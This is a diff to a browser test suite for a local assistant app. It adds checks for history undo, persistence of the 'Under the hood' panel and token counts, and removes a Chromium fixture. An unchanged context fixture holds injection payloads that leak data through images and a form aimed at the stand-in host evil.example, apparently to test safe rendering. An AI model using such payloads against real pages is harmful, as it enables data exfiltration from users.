@@ -20,7 +20,7 @@ from assistant.settings import AssistantSettings
 from eval.cases import read_cases
 from ingest.shelf import Shelf
 from ingest.sync import sync
-from tests.browser import App, ask, find_chromium, opened, served, tab
+from tests.browser import App, ask, opened, served, tab
 from tests.fake_openai import FakeServer
 
 pytestmark = pytest.mark.slow
@@ -40,17 +40,6 @@ HOSTILE = """# Zorgon protocol
 The Zorgon protocol handshake needs three packets. <img src="http://evil.example/leak.png"> ![x](http://evil.example/y)
 <script>document.title = 'owned'</script> <form action="http://evil.example"><input type=password></form>
 """
-
-
-@pytest.fixture(scope="module")
-def browser() -> Iterator[Any]:
-    program = find_chromium()
-    from playwright.sync_api import sync_playwright
-
-    with sync_playwright() as playwright:
-        started = playwright.chromium.launch(executable_path=program, args=["--no-sandbox"])
-        yield started
-        started.close()
 
 
 def installation(place: Path, models: Path) -> tuple[Path, Path]:
@@ -155,9 +144,14 @@ def test_the_history_can_be_searched_and_opened(browser: Any, app: App) -> None:
         page.wait_for_selector(".welcome")
         page.fill("#search textarea, #search input", "overfit")
         page.wait_for_function("document.querySelectorAll('#past li').length === 1")
-        page.locator("#past button").click()
+        page.locator("#past .link").click()
         page.wait_for_selector("#log .turn")
         assert page.locator("#log .asked").inner_text() == "What is overfitting?"
+        page.get_by_label("Remove from the history: What is overfitting?").click()
+        page.wait_for_selector("#past:has-text('Nothing found.')")
+        page.wait_for_selector(".welcome")
+        page.get_by_role("button", name="Undo").click()
+        page.wait_for_function("document.querySelectorAll('#past li').length === 1")
 
 
 def test_a_complaint_is_kept(browser: Any, app: App) -> None:
@@ -206,6 +200,12 @@ def test_under_the_hood_shows_how_the_answer_came_about(browser: Any, app: App, 
             "embed the question",
         ]
         assert "No model was asked." in page.locator("#panel").inner_text()
+        before = page.locator("#panel .hood").inner_html()
+        page.reload()
+        page.wait_for_selector("#log .turn")
+        page.locator("#log").get_by_role("button", name="Under the hood").last.click()
+        page.wait_for_selector("#panel .hood")
+        assert page.locator("#panel .hood").inner_html() == before
 
 
 def test_a_dropped_file_is_read_answers_and_can_be_deleted_and_restored(browser: Any, app: App, tmp_path: Path) -> None:
@@ -321,6 +321,10 @@ def test_stop_stops_the_model_and_keeps_what_was_written(browser: Any, modelled:
         page.wait_for_selector("#log .turn:has-text('stopped before its end')")
         assert "cheese" not in page.locator("#log").inner_text()
         page.wait_for_timeout(300)
+        page.wait_for_selector("#send")
+        page.get_by_role("button", name="Under the hood").click()
+        page.wait_for_selector("#panel .hood th:text-is('passages')")
+        assert re.search(r"\d+ of [\d,]+ tokens, with \d passages", page.locator("#panel .hood").inner_text())
     assert model.disconnects == stopped + 1
 
 
